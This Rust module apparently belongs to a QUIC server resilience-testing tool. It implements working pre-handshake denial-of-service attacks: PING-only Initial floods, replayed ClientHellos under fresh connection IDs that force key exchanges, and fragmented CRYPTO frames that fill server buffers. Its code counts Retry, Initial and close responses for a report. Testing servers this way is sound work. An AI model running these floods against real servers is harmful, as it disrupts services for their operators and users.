//! Attacks before any handshake completes: Initials that start nothing,
//! ClientHellos never finished, and CRYPTO data in fragments.

use std::collections::HashMap;
use std::time::Duration;

use quark_proto::crypto::tls::TlsSession;
use quark_proto::endpoint::local_params;
use quark_proto::frame::{Crypto, Frame, Iter};
use quark_proto::packet::craft::{client_initial, open_server_initial};
use quark_proto::packet::{HeaderType, PartialDecode, VERSION_1};
use quark_proto::{ConnectionId, PacketKind, TransportConfig, TransportErrorCode};
use rand::Rng;

use super::paced;
use crate::peer::Peers;
use crate::{Report, Scale, Target};

/// The server's connection ID length is unknown; responses are read with
/// ours (long headers carry their lengths anyway).
const CID_LEN: usize = 8;

fn random_cid(rng: &mut impl Rng, len: usize) -> ConnectionId {
    let mut bytes = [0u8; 20];
    rng.fill(&mut bytes[..len]);
    ConnectionId::new(&bytes[..len]).expect("at most 20 bytes")
}

/// A real ClientHello for `target`, with `scid` in its transport parameters.
fn client_hello(target: &Target, scid: ConnectionId) -> anyhow::Result<Vec<u8>> {
    let mut params = local_params(&TransportConfig::default());
    params.initial_source_connection_id = Some(scid);
    let config = target.client_config()?;
    let mut tls = TlsSession::client(config.tls.clone(), &target.server_name, &params)?;
    let mut hello = Vec::new();
    tls.write_handshake(&mut hello);
    Ok(hello)
}

fn crypto_frame(out: &mut Vec<u8>, offset: u64, data: &[u8]) {
    Frame::Crypto(Crypto { offset, data }).encode(out);
}

/// What the server sent back, by kind.
#[derive(Default)]
struct Answers {
    retries: u64,
    initials: u64,
    other: u64,
}

impl Answers {
    fn read(&mut self, peers: &mut Peers, wait: Duration) -> anyhow::Result<()> {
        while let Some(d) = peers.recv_raw(wait)? {
            match PartialDecode::with_quic_bit(&d, CID_LEN, true).map(|pd| pd.ty) {
                Ok(HeaderType::Retry) => self.retries += 1,
                Ok(HeaderType::Frames(PacketKind::Initial)) => self.initials += 1,
                _ => self.other += 1,
            }
        }
        Ok(())
    }

    /// Every 64th datagram, what has come back so far.
    fn read_now_and_then(&mut self, peers: &mut Peers, i: u64) -> anyhow::Result<()> {
        if i % 64 == 0 {
            self.read(peers, Duration::ZERO)?;
        }
        Ok(())
    }

    fn note(&self, report: &mut Report) {
        report.notes.push(format!(
            "answers: {} Retry, {} Initial, {} other",
            self.retries, self.initials, self.other
        ));
    }
}

/// Distinct datagrams made up front and sent in turn: protecting each costs
/// the attacker more than the server's check of it, and a repeat is as much
/// an attack as a new one (neither may leave state).
const POOL: usize = 4_096;

/// Correctly protected Initials that carry only PING: nothing to build a
/// connection on.
pub(super) fn ping_flood(target: &Target, scale: Scale) -> anyhow::Result<Report> {
    let (count, rate) = scale.pick((20_000, 10_000), (110_000, 10_000));
    let mut peers = Peers::new(target, TransportConfig::default())?;
    let mut rng = rand::rng();
    let mut ping = Vec::new();
    Frame::Ping.encode(&mut ping);
    let pool: Vec<Vec<u8>> = (0..POOL)
        .map(|_| {
            client_initial(
                VERSION_1,
                &random_cid(&mut rng, 8),
                &random_cid(&mut rng, 8),
                &[],
                0,
                &ping,
            )
        })
        .collect();
    let mut answers = Answers::default();
    paced(count, rate, |i| {
        peers.send_raw(&pool[i as usize % POOL])?;
        answers.read_now_and_then(&mut peers, i)
    })?;
    answers.read(&mut peers, Duration::from_millis(100))?;
    let mut report = Report {
        sent: peers.sent,
        ..Report::default()
    };
    answers.note(&mut report);
    Ok(report)
}

/// One ClientHello replayed under fresh Destination Connection IDs: each
/// costs the server a key exchange and a signature unless it asks for
/// address validation first.
pub(super) fn handshake_flood(target: &Target, scale: Scale) -> anyhow::Result<Report> {
    let (count, rate) = scale.pick((5_000, 5_000), (20_000, 8_000));
    let mut peers = Peers::new(target, TransportConfig::default())?;
    let mut rng = rand::rng();
    let scid = random_cid(&mut rng, 8);
    let mut frames = Vec::new();
    crypto_frame(&mut frames, 0, &client_hello(target, scid)?);
    // Fresh IDs for every datagram: each would be a new connection.
    let mut answers = Answers::default();
    paced(count, rate, |i| {
        let d = client_initial(VERSION_1, &random_cid(&mut rng, 8), &scid, &[], 0, &frames);
        peers.send_raw(&d)?;
        answers.read_now_and_then(&mut peers, i)
    })?;
    answers.read(&mut peers, Duration::from_millis(100))?;
    let mut report = Report {
        sent: peers.sent,
        ..Report::default()
    };
    answers.note(&mut report);
    Ok(report)
}

/// Half-open connections that start a ClientHello, then send 1-byte CRYPTO
/// frames at every other offset past the server's CRYPTO buffer.
pub(super) fn crypto_fragments(target: &Target, scale: Scale) -> anyhow::Result<Report> {
    let connections = scale.pick(30, 200);
    let span: u64 = 80 * 1024; // past the 64 KiB an endpoint usually buffers
    let mut peers = Peers::new(target, TransportConfig::default())?;
    let mut rng = rand::rng();
    let mut report = Report::default();
    // Our source ID (the server's destination) -> the server's Initial keys' ID.
    let mut dcids = HashMap::new();
    for _ in 0..connections {
        let dcid = random_cid(&mut rng, 8);
        let scid = random_cid(&mut rng, 8);
        let hello = client_hello(target, scid)?;
        dcids.insert(scid, dcid);
        let mut pn = 0;
        let mut frames = Vec::new();
        // The ClientHello's start, so the server keeps the connection.
        crypto_frame(&mut frames, 0, &hello[..64]);
        let mut offset = 64 + 1;
        while offset < span {
            while frames.len() < 1100 && offset < span {
                crypto_frame(&mut frames, offset, &[0x42]);
                offset += 2;
            }
            peers.send_raw(&client_initial(VERSION_1, &dcid, &scid, &[], pn, &frames))?;
            pn += 1;
            frames.clear();
            // Keep the socket's buffer from overflowing with answers.
            if pn % 32 == 0 {
                drain(&mut peers, &dcids, &mut report, Duration::ZERO)?;
            }
        }
    }
    drain(&mut peers, &dcids, &mut report, Duration::from_millis(300))?;
    report.sent = peers.sent;
    Ok(report)
}

/// Read the server's Initials, counting the CONNECTION_CLOSE codes in them.
fn drain(
    peers: &mut Peers,
    dcids: &HashMap<ConnectionId, ConnectionId>,
    report: &mut Report,
    wait: Duration,
) -> anyhow::Result<()> {
    while let Some(d) = peers.recv_raw(wait)? {
        let Some(dcid) = PartialDecode::with_quic_bit(&d, CID_LEN, true)
            .ok()
            .and_then(|pd| dcids.get(&pd.dst_cid))
        else {
            continue;
        };
        let Some((packet, frames)) = open_server_initial(&d, dcid, CID_LEN) else {
            continue;
        };
        let code = Iter::new(&packet[frames], PacketKind::Initial).find_map(|f| match f {
            Ok(Frame::Close(c)) => Some(c.error_code),
            _ => None,
        });
        if let Some(code) = code {
            let name = TransportErrorCode(code)
                .name()
                .map_or_else(|| format!("transport error {code:#x}"), str::to_owned);
            report.count_closes([name]);
        }
    }
    Ok(())
}
